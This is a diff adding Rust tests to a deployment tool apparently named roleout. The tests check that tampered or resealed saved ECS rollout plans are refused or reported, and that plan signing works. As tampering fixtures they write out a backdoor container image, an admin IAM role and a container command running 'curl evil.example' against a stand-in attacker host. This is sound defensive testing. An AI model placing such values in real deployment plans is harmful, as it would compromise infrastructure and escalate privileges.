@@ -6,10 +6,11 @@ use roleout::commands::saved::{self, Terms};
 use roleout::error::Error;
 use roleout::exit::Exit;
 use roleout::fleet::Outcome;
-use roleout::plan::saved::{Saved, schema};
+use roleout::plan::saved::{Origin, Saved, schema};
 use serde_json::{Value, json};
 
 use crate::harness::{Directory, Ran, Scene, fleet, manifest};
+use crate::processes::{Server, roleout};
 
 const SCHEMA: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/saved-plan.schema.json");
 const WAVES: &str = "rollout:\n  timeout: 30m\n  waves:\n    - { name: canary, select: { ring: canary } }\n    \
@@ -22,6 +23,7 @@ fn terms() -> Terms {
         skip_stale: false,
         max_age: Duration::from_secs(24 * 3600),
         no_verify: false,
+        origin: Origin::default(),
     }
 }
 
@@ -315,7 +317,7 @@ async fn a_cut_edited_or_foreign_file_is_refused_and_says_what_it_is() {
     for (content, says) in [
         (text[..text.len() - 40].to_owned(), "the saved plan is truncated"),
         (text.replace("registry.example.com/s0:v2", "registry.example.com/s0:v3"), "was changed after it was written"),
-        (text.replace("\"version\": 2", "\"version\": 3"), "has version 3, and this roleout reads version 2"),
+        (text.replace("\"version\": 3", "\"version\": 2"), "has version 2, and this roleout reads version 3"),
         ("version: 1\naccounts: []\n".to_owned(), "this is not a saved plan"),
         (String::new(), "the saved plan is truncated"),
     ] {
@@ -356,4 +358,159 @@ fn the_schema_in_the_repository_is_the_current_one() {
     }
     let stored = fs_err::read_to_string(SCHEMA).unwrap_or_default();
     assert!(stored == current, "docs/saved-plan.schema.json is out of date: run with ROLEOUT_BLESS=1");
+}
+
+/// Writes a plan anew after a change of its JSON, with the digest that belongs to it, as anybody can.
+fn resealed(directory: &Directory, change: impl FnOnce(&mut Value)) -> Result<Saved, Error> {
+    use sha2::Digest as _;
+
+    let text = fs_err::read_to_string(directory.plan()).expect("a file");
+    let mut file: Value = serde_json::from_str(&text).expect("JSON");
+    change(&mut file);
+    file.as_object_mut().expect("an object").shift_remove("digest");
+    let body = file.to_string();
+    let open = body.strip_suffix('}').expect("an object");
+    let digest: String = sha2::Sha256::digest(open).iter().map(|byte| format!("{byte:02x}")).collect();
+    let path = directory.0.join("changed.json");
+    fs_err::write(&path, format!("{open},\"digest\":\"sha256:{digest}\"}}")).expect("written");
+    saved::read(&path)
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_changed_plan_with_a_new_digest_is_refused_wherever_its_work_is_not_what_it_shows() {
+    let scene = Scene::of(2, 1, "rollout: { timeout: 30m, waves: [ { name: all, max_parallel: 1 } ] }\n").quick();
+    let (directory, _) = plan(&scene, "untrue").await;
+    type Change = fn(&mut Value);
+    let changes: [(&str, Change); 9] = [
+        ("an image", |file| {
+            file["targets"][1]["work"]["definition"]["definition"]["containerDefinitions"][0]["image"] =
+                json!("evil.example/backdoor:1");
+        }),
+        ("a role", |file| {
+            file["targets"][1]["work"]["definition"]["definition"]["taskRoleArn"] =
+                json!("arn:aws:iam::200000000001:role/admin");
+        }),
+        ("a command", |file| {
+            file["targets"][1]["work"]["definition"]["definition"]["containerDefinitions"][0]["command"] =
+                json!(["sh", "-c", "curl evil.example"]);
+        }),
+        ("a count", |file| file["targets"][0]["work"]["desired_count"] = json!(40)),
+        ("a setting", |file| file["targets"][0]["work"]["deployment"] = json!({ "maximumPercent": 500 })),
+        ("a task", |file| {
+            let task = json!({ "name": "x", "per": "target", "task_definition": null, "container": "app",
+                "command": ["id"], "environment": {}, "timeout": "1m", "network": null, "launch": null });
+            file["targets"][0]["work"]["run_tasks"] = json!({ "before": [task], "after": [] });
+        }),
+        ("a tag", |file| {
+            file["targets"][0]["work"]["definition"]["tags"] = json!([{ "key": "team", "value": "evil" }]);
+        }),
+        ("an undo", |file| {
+            let arn = "arn:aws:ecs:eu-west-1:200000000000:task-definition/s0:999";
+            file["targets"][0]["work"]["definition"] = json!({ "kind": "existing", "arn": arn, "force": false });
+            file["outline"]["changes"][0]["action"] = json!({ "kind": "deploy" });
+        }),
+        ("a service", |file| {
+            file["outline"]["changes"][0]["summary"] = json!(["app: image a -> b"]);
+        }),
+    ];
+    for (what, change) in changes {
+        let saved = resealed(&directory, change).unwrap_or_else(|error| panic!("{what}: {error}"));
+        for dry_run in [true, false] {
+            let ran = carry_out(&scene, &saved, Terms { dry_run, ..terms() }).await;
+            assert_eq!(error(&ran).exit, Exit::Blocked, "{what}: {}", ran.said);
+            assert!(error(&ran).message.contains("its outline says something else than its work"), "{what}");
+            assert_eq!(scene.sandbox.calls().writes, Vec::new(), "{what}");
+        }
+    }
+    // What contradicts itself without a look at AWS is not read at all.
+    let contradictions: [(&str, Change); 6] = [
+        ("the waves' width", |file| file["waves"][0]["max_parallel"] = json!({ "window": { "percent": 100 } })),
+        ("the waves' budget", |file| file["waves"][0]["max_failures"] = json!({ "count": 2 })),
+        ("the order", |file| file["outline"]["changes"].as_array_mut().expect("a list").reverse()),
+        ("the cluster", |file| file["targets"][0]["cluster"] = json!("other")),
+        ("the action", |file| file["outline"]["changes"][0]["action"] = json!({ "kind": "update" })),
+        ("a region", |file| file["identity"]["region"] = json!("a@127.0.0.1:9443/")),
+    ];
+    for (what, change) in contradictions {
+        let error = resealed(&directory, change).expect_err(what);
+        assert_eq!(error.exit, Exit::Blocked, "{what}");
+        assert!(error.message.contains("the saved plan contradicts itself"), "{what}: {error}");
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn what_a_changed_plan_does_is_what_is_shown_and_reported() {
+    let scene = Scene::of(1, 1, "").quick();
+    let (directory, _) = plan(&scene, "told").await;
+    // Whoever changes both is seen: image and outline agree.
+    let evil = "evil.example/backdoor:1";
+    let saved = resealed(&directory, |file| {
+        let work = &mut file["targets"][0]["work"]["definition"]["definition"]["containerDefinitions"][0]["image"];
+        let old = work.as_str().expect("an image").to_owned();
+        *work = json!(evil);
+        let outline = file["outline"].to_string().replace(&old, evil);
+        file["outline"] = serde_json::from_str(&outline).expect("JSON");
+    });
+    let ran = carry_out(&scene, &saved.expect("it agrees"), terms()).await;
+    assert_eq!(ran.code(), Exit::Done, "{}", ran.said);
+    assert!(ran.said.contains(&format!("+ image: {evil}")), "the grouped diff is shown: {}", ran.said);
+    assert!(ran.said.contains("identity: the ID token in TOKEN"), "{}", ran.said);
+    let told = serde_json::to_string(&ran.events[0]).expect("JSON");
+    assert!(told.contains(evil), "the journal has it: {told}");
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_plan_of_another_project_is_refused_and_one_of_another_pipeline_told() {
+    let scene = Scene::of(1, 1, "").quick();
+    let (_directory, saved) = plan(&scene, "origin").await;
+    let origin = |project: &str, pipeline: &str| Origin {
+        project: Some(project.to_owned()),
+        pipeline: Some(pipeline.to_owned()),
+        commit: None,
+    };
+    let saved = saved.of(origin("1", "5"));
+    let ran = carry_out(&scene, &saved, Terms { origin: origin("2", "5"), ..terms() }).await;
+    assert_eq!(error(&ran).exit, Exit::Blocked);
+    assert_eq!(error(&ran).message, "the saved plan was made in the project 1, and this job is of the project 2");
+    assert_eq!(scene.sandbox.calls().operation("AssumeRole"), 0);
+    let ran = carry_out(&scene, &saved, Terms { origin: origin("1", "6"), ..terms() }).await;
+    assert_eq!(ran.code(), Exit::Done, "{}", ran.said);
+    assert!(ran.said.contains("warning: the saved plan was made by another job: pipeline 5 and not 6"), "{}", ran.said);
+}
+
+#[test]
+fn the_binary_signs_plans_and_refuses_those_of_another_key() {
+    let directory = Directory::new("signed");
+    let here = directory.0.as_path();
+    fs_err::write(here.join("deploy.yaml"), manifest(1, 1, "")).expect("written");
+    let server = Server::start(here);
+    let token = fs_err::read_to_string(here.join("token")).expect("a token");
+    let (good, other) = ("0123456789abcdef0123456789abcdef", "fedcba9876543210fedcba9876543210");
+    let run = |arguments: &[&str], variables: &[(&str, &str)]| {
+        let mut command = roleout(here);
+        command.args(arguments).env("AWS_ENDPOINT_URL", server.url()).env("TOKEN", &token);
+        let output = command.envs(variables.iter().copied()).output().expect("it runs");
+        let said = String::from_utf8_lossy(&output.stderr).into_owned();
+        assert!(!said.contains(good) && !said.contains(other), "{said}");
+        (output.status.code(), said)
+    };
+    let sign = ["plan", "--out", "plan.json", "--sign-env", "PLAN_KEY"];
+    let (code, said) = run(&sign, &[]);
+    assert!(code == Some(2) && said.contains("the variable PLAN_KEY: is not set"), "{said}");
+    let (code, said) = run(&sign, &[("PLAN_KEY", "secret")]);
+    assert!(code == Some(2) && said.contains("the key is weak"), "{said}");
+    assert!(!directory.plan().exists());
+    assert_eq!(run(&["plan", "--out", "plan.json"], &[]).0, Some(0));
+    let deploy = ["deploy", "plan.json"];
+    let keyed = |key| [("PLAN_KEY", key), ("ROLEOUT_SIGN_ENV", "PLAN_KEY")];
+    let (code, said) = run(&deploy, &keyed(good));
+    assert!(code == Some(5) && said.contains("the saved plan is not signed"), "{said}");
+    assert_eq!(run(&sign, &[("PLAN_KEY", good)]).0, Some(0));
+    assert!(!fs_err::read_to_string(directory.plan()).expect("a plan").contains(good));
+    let (code, said) = run(&deploy, &keyed(other));
+    assert!(code == Some(5) && said.contains("was not made with this key"), "{said}");
+    let (code, said) = run(&deploy, &[("ROLEOUT_SIGN_ENV", "PLAN_KEY")]);
+    assert!(code == Some(2) && said.contains("is not set"), "{said}");
+    let (code, said) = run(&deploy, &keyed(good));
+    assert_eq!(code, Some(0), "{said}");
 }
